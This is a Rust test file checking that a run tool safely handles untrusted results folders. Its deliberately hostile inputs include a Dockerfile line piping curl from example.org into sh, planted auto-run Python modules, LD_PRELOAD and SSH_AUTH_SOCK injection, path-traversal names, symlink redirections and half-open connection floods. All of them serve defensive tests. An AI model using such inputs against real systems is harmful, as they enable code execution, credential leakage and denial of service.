//! Results folders that somebody else made: looking at one, resuming it and loading its settings does no harm here.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::app::{Served, TestHome, text};

fn record(home: &TestHome) -> Value {
    let bytes = std::fs::read(home.path("results/.stamina/run.json")).expect("a record");
    serde_json::from_slice(&bytes).expect("JSON")
}

fn put(home: &TestHome, run: &Value) {
    std::fs::write(home.path("results/.stamina/run.json"), run.to_string()).expect("a record");
}

/// Every file of a folder with its size and time.
fn state_of(folder: &Path) -> Vec<(String, u64, std::time::SystemTime)> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).expect("a folder").flatten() {
            let meta = entry.metadata().expect("an entry");
            if meta.is_dir() {
                folders.push(entry.path());
            } else {
                found.push((
                    entry.path().display().to_string(),
                    meta.len(),
                    meta.modified().expect("a time"),
                ));
            }
        }
    }
    found.sort();
    found
}

#[test]
// docs/security.md: A resume
fn a_run_of_another_library_is_resumed_only_once_it_is_trusted() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    // Here it was begun: it goes on without a question.
    let output = home.stamina(&["resume", "results", "--values", "limits.run.tokens=2"]);
    assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
    assert!(!text(&output.stderr).contains("not begun"), "{}", text(&output.stderr));
    let output = home.stamina(&["resume", "results"]);
    assert_eq!(output.status.code(), Some(3), "raised by a resume, it is ours: {}", text(&output.stderr));

    // Another library knows nothing of it.
    let before = state_of(&home.path("results"));
    let output = home.stamina(&["--db", "other.db", "--json", "resume", "results"]);
    assert_eq!(output.status.code(), Some(5), "{}", text(&output.stderr));
    let shown_json: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!((&shown_json["trusted"], &shown_json["endpoint"]), (&json!(false), &Value::Null));
    assert_eq!((&shown_json["host_processes"], &shown_json["image"]), (&json!(true), &Value::Null));
    assert_eq!((&shown_json["harness"], &shown_json["network"]), (&json!("mock agent"), &json!("gateway")));
    assert_eq!((&shown_json["key"], &shown_json["binds"]), (&Value::Null, &json!([])));
    let output = home.stamina(&["--db", "other.db", "resume", "results"]);
    assert_eq!(output.status.code(), Some(5));
    let shown = text(&output.stderr);
    assert!(shown.contains("not begun by this library") && shown.contains("--trust"), "{shown}");
    let rows = shown_json["rows"].as_array().expect("lines");
    assert!(rows.len() > 8, "{rows:?}");
    for row in rows {
        let [name, value] = ["name", "value"].map(|key| row[key].as_str().expect("a text"));
        let is_line = |line: &str| line.trim_start().starts_with(name) && line.ends_with(value);
        assert!(shown.lines().any(is_line), "{name} {value} is not among {shown}");
    }
    assert_eq!(state_of(&home.path("results")), before, "nothing was written");

    let trusted =
        ["--db", "other.db", "resume", "results", "--trust", "--values", "limits.run.tokens=1000000"];
    let output = home.stamina(&trusted);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    // From now on it is theirs as well.
    let output = home.stamina(&["--db", "other.db", "resume", "results"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
}

#[test]
// docs/security.md: A resume
fn the_folders_endpoint_and_key_are_not_used_unless_they_are_chosen() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    let mut run = record(&home);
    run["settings"]["endpoint"] =
        json!({ "mode": "gateway", "base_url": "http://127.0.0.1:9", "key": { "env": "HOME" } });
    (run["settings"]["model"], run["settings"]["use_docker"]) = (json!("acme/new"), json!(true));
    run["settings"]["env_vars"] = json!(["SSH_AUTH_SOCK"]);
    run["harness"]["image"] = json!("stamina/not-there:0");
    put(&home, &run);
    let output = home.stamina(&["--json", "resume", "results"]);
    assert_eq!(output.status.code(), Some(5), "its record was changed: {}", text(&output.stderr));
    let shown: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(shown["endpoint"], "http://127.0.0.1:9");
    assert_eq!(shown["key"], "the environment variable HOME");
    assert_eq!(shown["variables"], json!(["SSH_AUTH_SOCK"]));
    let output = home.stamina(&["resume", "results", "--trust"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).contains("The endpoint of this run is to be chosen"));

    let app = Served::new(&home);
    let run_ref = json!({ "folder": home.path("results") });
    let on_its_page = app.get("run_trust", &run_ref);
    assert_eq!((&on_its_page["trusted"], &on_its_page["here"]), (&json!(false), &Value::Null));
    assert_eq!(on_its_page["rows"], shown["rows"], "the same words");
    let request = json!({ "folder": home.path("results"), "changes": [] });
    assert_eq!(app.ask("resume_run", &request).expect_err("refused")["code"], "run.stranger");
    let stale = json!({ "folder": home.path("results"), "changes": [], "trust": { "digest": "0", "keep_key": true } });
    assert_eq!(app.ask("resume_run", &stale).expect_err("refused")["code"], "run.changed");
    // The form takes neither.
    std::fs::write(
        home.path("results/config.yaml"),
        "agent: CODEX\ncodex: {model_id: acme/new}\nendpoint: {base_url: 'http://127.0.0.1:9', key_env: HOME}\n\
         docker: {env_vars: [SSH_AUTH_SOCK]}\nlimits: {network: open}\n",
    )
    .expect("a file");
    let folder = home.path("results");
    let loaded =
        app.get("load_settings", &json!({ "yaml": null, "file": null, "run": null, "folder": folder }));
    assert_eq!(
        (&loaded["settings"]["key_place"], &loaded["settings"]["env_vars"]),
        (&json!("none"), &json!([]))
    );
    let notes = loaded["notes"].to_string();
    assert!(notes.contains("The key is not taken") && notes.contains("SSH_AUTH_SOCK to agents"), "{notes}");
    assert!(notes.contains("the network open"), "{notes}");
}

#[test]
// docs/security.md: A resume
fn a_link_of_the_folder_hides_neither_what_agents_get_nor_what_is_written() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    let private = home.path("private");
    std::fs::create_dir(&private).expect("a folder");
    symlink(&private, home.path("results/data")).expect("a link");
    let private = private.canonicalize().expect("it is there").display().to_string();
    let bind = format!("{}:/data", home.path("results/data").display());
    let mut run = record(&home);
    (run["settings"]["use_docker"], run["settings"]["extra"]["binds"]) = (json!(true), json!([bind]));
    put(&home, &run);
    let output = home.stamina(&["--json", "resume", "results"]);
    assert_eq!(output.status.code(), Some(5), "{}", text(&output.stderr));
    let shown: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(shown["binds"], json!([format!("{bind} (it leads to {private})")]));
    assert_eq!(shown["writes"][1], json!(private));

    // A loaded file names the folder beside which its settings are saved.
    let app = Served::new(&home);
    let profile = home.path("profile");
    std::fs::write(&profile, "# mine\n").expect("a file");
    let copied_path = home.path("results/next.yaml");
    symlink(&profile, &copied_path).expect("a link");
    let settings = app.get("launch_form", &json!({}))["defaults"].clone();
    app.get("save_settings", &json!({ "settings": settings, "path": copied_path }));
    assert_eq!(std::fs::read_to_string(&profile).expect("it is there"), "# mine\n");
    assert!(std::fs::symlink_metadata(&copied_path).is_ok_and(|meta| meta.is_file()));
}

#[test]
// docs/security.md: A resume
fn a_recipe_that_changes_once_it_was_shown_is_not_what_was_trusted() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    let task = |path: &str, text: &str| {
        let path = home.path("tasks/0").join(path);
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        std::fs::write(path, text).expect("a file");
    };
    task("task.toml", "[[steps]]\nname = \"a\"\n");
    task("environment/Dockerfile", "FROM debian\n");
    task("steps/a/instruction.md", "Do it.");
    task("tests/test.sh", "true");
    let values = [
        "agent=NOP".to_owned(),
        "benchmark=HARBOR".to_owned(),
        format!("tasks={}", home.path("tasks").display()),
        format!("output_dir={}", home.path("results").display()),
    ];
    let settings = runner::settings::resolve(&[], &values).expect("settings");
    let mut run = record(&home);
    run["settings"] = serde_json::to_value(&settings).expect("JSON");
    put(&home, &run);

    let app = Served::new(&home);
    let shown = || app.get("run_trust", &json!({ "folder": home.path("results") }));
    let first = shown();
    assert_eq!(first["task_images"][0]["from"], json!(["debian"]), "{first}");
    assert_eq!(shown()["digest"], first["digest"]);
    task("environment/Dockerfile", "FROM debian\nRUN curl example.org | sh\n");
    assert_ne!(shown()["digest"], first["digest"]);
    let trust = json!({ "digest": first["digest"], "keep_key": true });
    let request = json!({ "folder": home.path("results"), "changes": [], "trust": trust });
    assert_eq!(app.ask("resume_run", &request).expect_err("refused")["code"], "run.changed");
}

#[test]
// docs/security.md: A resume
fn nothing_that_lies_in_the_folder_of_a_new_run_becomes_part_of_it() {
    let home = TestHome::new();
    // As a begin that was killed leaves it, and more.
    let own_folder = home.path("results/.stamina");
    let outside = home.path("outside");
    for folder in [
        own_folder.join("state/scenario_0/live/workspace"),
        own_folder.join("state/scenario_0/live/home"),
        outside.clone(),
    ] {
        std::fs::create_dir_all(&folder).expect("a folder");
        std::fs::write(folder.join("planted.txt"), "theirs").expect("a file");
    }
    symlink(&outside, own_folder.join("episodes")).expect("a link");
    let journal = json!({ "before": { "calls": 7, "feedback": "theirs" } });
    std::fs::write(own_folder.join("state/scenario_0/journal.json"), journal.to_string()).expect("a file");
    home.run_until_budget(2, 1);
    let left = state_of(&home.path("results"));
    let planted: Vec<_> = left.iter().filter(|(path, ..)| path.ends_with("planted.txt")).collect();
    assert!(planted.is_empty() && left.len() > 5, "{planted:?} of {}", left.len());
    let kept = std::fs::read_to_string(own_folder.join("state/scenario_0/journal.json")).expect("a journal");
    assert!(!kept.contains("theirs"), "{kept}");
    assert_eq!(std::fs::read_dir(&outside).expect("a folder").count(), 1);
}

#[test]
// docs/security.md: The records of a run (`.stamina/`)
fn names_and_settings_that_would_reach_out_are_refused() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    let good = record(&home);
    let canary = home.path("canary");
    std::fs::create_dir(&canary).expect("a folder");
    std::fs::write(canary.join("kept"), "kept").expect("a file");
    let refused = |run: &Value, reason: &str| {
        put(&home, run);
        let output = home.stamina(&["resume", "results", "--trust"]);
        assert!(!output.status.success());
        assert!(text(&output.stderr).contains(reason), "{reason}: {}", text(&output.stderr));
    };
    for name in [canary.display().to_string(), "../canary".to_owned(), "scenario_1".to_owned()] {
        let mut run = good.clone();
        run["episodes"][0]["name"] = json!(name);
        refused(&run, "the names of episodes are scenario_0");
    }
    let mut run = good.clone();
    run["id"] = json!("../../x");
    refused(&run, "eight hexadecimal digits");
    // A harness of one's own would be a program of the folder's on this machine.
    let mut run = good.clone();
    run["settings"]["harness_file"] = json!("/x.toml");
    std::fs::write(home.path("results/.stamina/harness.toml"), "name = \"x\"\n").expect("a file");
    refused(&run, "agent=CUSTOM");
    let mut run = good.clone();
    run["settings"]["agent"] = json!("codex");
    refused(&run, "without containers only agent=MOCK");
    assert_eq!(std::fs::read_to_string(canary.join("kept")).expect("it is there"), "kept");
    assert_eq!(std::fs::read_dir(&canary).expect("a folder").count(), 1);
}

/// Plays a run into `results`. What is given back lays it there anew, as it was when a budget had ended it.
fn played_once(home: &TestHome) -> impl Fn() + '_ {
    home.run_until_budget(1, 1);
    std::fs::rename(home.path("results"), home.path("played")).expect("renamed");
    || {
        drop(std::fs::remove_dir_all(home.path("results")));
        let copied = Command::new("cp").arg("-a").args([home.path("played"), home.path("results")]).status();
        assert!(copied.expect("cp").success(), "the run is copied");
    }
}

#[test]
// docs/security.md: The records of a run (`.stamina/`)
fn links_in_the_runners_folder_are_not_followed() {
    let canary = "theirs, and it stays so\n";
    let own_files = [
        "lock",
        "events.jsonl",
        "gateway.jsonl",
        "control.json",
        "control.lock",
        ".part-run.json",
        ".part-control.json",
        "episodes/.part-scenario_0.json",
        "episodes/scenario_0.json",
        "state/scenario_0/journal.json",
        "state/scenario_0/.part-journal.json",
        "state/scenario_0/live/home/.stamina/mock_session.json",
        "state/scenario_0/live/home/.stamina/mock_session.json.new",
        "state/scenario_0/live/home/.stamina/mock_agent.py",
    ];
    let results = [
        "config.yaml",
        "report.json",
        ".part-config.yaml",
        ".part-report.json",
        "scenario_0/trajectory.json",
    ];
    let files =
        own_files.map(|name| format!(".stamina/{name}")).into_iter().chain(results.map(str::to_owned));
    let home = TestHome::new();
    let again = played_once(&home);
    for name in files {
        again();
        let outside = home.path("outside");
        std::fs::write(&outside, canary).expect("a file");
        let link = home.path("results").join(&name);
        drop(std::fs::remove_file(&link));
        std::fs::create_dir_all(link.parent().expect("a folder")).expect("a folder");
        symlink(&outside, &link).expect("a link");
        let args = ["resume", "results", "--trust", "--values", "limits.run.tokens=1000000"];
        let output = home.stamina(&args);
        assert_eq!(std::fs::read_to_string(&outside).expect("it is there"), canary, "{name}");
        // Either a file of the run replaced the link, or the run ended with a reason.
        let replaced = std::fs::symlink_metadata(&link).is_ok_and(|meta| meta.is_file());
        assert!(
            replaced && output.status.code() == Some(0)
                || text(&output.stderr).contains("link")
                || name.contains(".part-") && output.status.code() == Some(0)
                // What lies in an agent's own folders is its own: it fails over it.
                || name.contains("/live/"),
            "{name}: {:?} {}",
            output.status,
            text(&output.stderr)
        );
    }
    // A folder that leads elsewhere.
    for name in [
        ".stamina/state",
        ".stamina/episodes",
        ".stamina/gateway",
        ".stamina/state/scenario_0/before",
        "scenario_0",
    ] {
        again();
        let outside = home.path("folder-outside");
        drop(std::fs::remove_dir_all(&outside));
        std::fs::create_dir_all(outside.join("workspace")).expect("a folder");
        std::fs::write(outside.join("workspace/kept"), canary).expect("a file");
        let link = home.path("results").join(name);
        drop(std::fs::remove_dir_all(&link));
        symlink(&outside, &link).expect("a link");
        let args = ["resume", "results", "--trust", "--values", "limits.run.tokens=1000000"];
        drop(home.stamina(&args));
        let names: Vec<_> = std::fs::read_dir(&outside).expect("a folder").flatten().collect();
        assert_eq!(names.len(), 1, "{name}: {names:?}");
        assert_eq!(
            std::fs::read_to_string(outside.join("workspace/kept")).expect("it is there"),
            canary,
            "{name}"
        );
    }
}

#[test]
// docs/security.md: The records of a run (`.stamina/`)
fn pipes_and_devices_hold_nobody_up() {
    let home = TestHome::new();
    home.run_until_budget(2, 1);
    let own_folder = home.path("results/.stamina");
    for name in ["events.jsonl", "gateway.jsonl", "control.json", "episodes/scenario_0.json"] {
        drop(std::fs::remove_file(own_folder.join(name)));
        let status =
            std::process::Command::new("mkfifo").arg(own_folder.join(name)).status().expect("mkfifo");
        assert!(status.success());
    }
    let output = home.stamina(&["status", "results"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let shown = text(&output.stdout);
    for name in ["events.jsonl", "gateway.jsonl", "control.json", "episodes/scenario_0.json"] {
        assert!(shown.contains(&format!("warning: .stamina/{name} cannot be read")), "{name}: {shown}");
    }
    assert!(shown.contains("an unknown number of") && !shown.contains("queued"), "{shown}");
    let output = home.stamina(&["resume", "results", "--trust"]);
    assert!(!output.status.success());
    // An endless device in the place of the record.
    std::fs::remove_file(own_folder.join("run.json")).expect("it was there");
    symlink("/dev/zero", own_folder.join("run.json")).expect("a link");
    let output = home.stamina(&["status", "results"]);
    assert!(!output.status.success() && text(&output.stderr).contains("link"), "{}", text(&output.stderr));
    let app = Served::new(&home);
    let listed = app.get("list_live_runs", &json!({}));
    assert_eq!((&listed["live"], &listed["runs"][0]["state"]), (&json!(0), &json!("unreadable")), "{listed}");
    let message = listed["runs"][0]["message"].as_str().expect("a message");
    assert!(message.starts_with(".stamina/run.json: ") && message.contains("link"), "{listed}");
}

#[test]
// docs/security.md: A resume
fn the_workspaces_start_script_is_not_run_outside_a_container() {
    let home = TestHome::new();
    home.run_until_budget(3, 20_000);
    let mark = home.path("was-run");
    let live = home.path("results/.stamina/state/scenario_0/live");
    let workspace = live.join("workspace");
    std::fs::create_dir_all(&workspace).expect("a folder");
    let script = format!("#!/bin/sh\ntouch '{}'\n", mark.display());
    std::fs::write(home.path("results/theirs.sh"), &script).expect("a script");
    // The agent writes a start script of its own, but not through a link that leads out of the workspace.
    drop(std::fs::remove_file(workspace.join("run.sh")));
    symlink(home.path("results/theirs.sh"), workspace.join("run.sh")).expect("a link");
    // Python would run these by itself, at every start.
    for name in [
        "sitecustomize.py",
        "usercustomize.py",
        "json.py",
        ".stamina/json.py",
        ".local/lib/python3/site-packages/usercustomize.py",
    ] {
        for folder in [&workspace, &live.join("home")] {
            let path = folder.join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
            std::fs::write(path, format!("open('{}', 'w')\n", mark.display())).expect("a module");
        }
    }
    let output = home.stamina(&["resume", "results", "--trust", "--values", "limits.run.tokens=100000000"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(!mark.exists(), "a file of the folder was run");
    // Nor by a variable that the record hands to the processes.
    for variable in [format!("PATH={}", home.path("results").display()), "LD_PRELOAD=/x.so".to_owned()] {
        let mut run = record(&home);
        run["settings"]["env_vars"] = json!([variable]);
        run["finish"] = Value::Null;
        put(&home, &run);
        let output = home.stamina(&["resume", "results", "--trust"]);
        assert!(text(&output.stderr).contains("without containers no variables"), "{}", text(&output.stderr));
    }
}

#[test]
// docs/security.md: Pages, terminals and files that others open
fn half_open_connections_and_long_polls_starve_nobody() {
    use std::io::Write as _;
    let home = TestHome::new();
    let app = Served::new(&home);
    // Half a head each; they stay open as long as this test.
    let held: Vec<_> = (0..200)
        .map(|_| {
            let mut stream = app.connect();
            stream.write_all(b"POST /rpc/app_state HTTP/1.1\r\nHost: ").expect("sent");
            stream
        })
        .collect();
    let waits = |stream: &std::net::TcpStream| {
        let nothing_yet = |error: std::io::Error| error.kind() == std::io::ErrorKind::WouldBlock;
        stream.set_nonblocking(true).is_ok() && stream.peek(&mut [0]).is_err_and(nothing_yet)
    };
    // It is answered while others wait. Where a machine is so busy that all of them have waited long enough, it is asked again.
    let is_answered_meanwhile = (0..5).any(|_| {
        let change = app.get("app_state", &json!({}))["change"].clone();
        let poll = json!({ "since": change, "timeout_ms": 25_000 });
        let polls: Vec<_> = (0..600).map(|_| app.begin("wait_for_changes", &poll)).collect();
        app.get("app_state", &json!({}));
        polls.iter().any(waits)
    });
    assert!(is_answered_meanwhile, "it waits for all of them to end");
    drop(held);
}
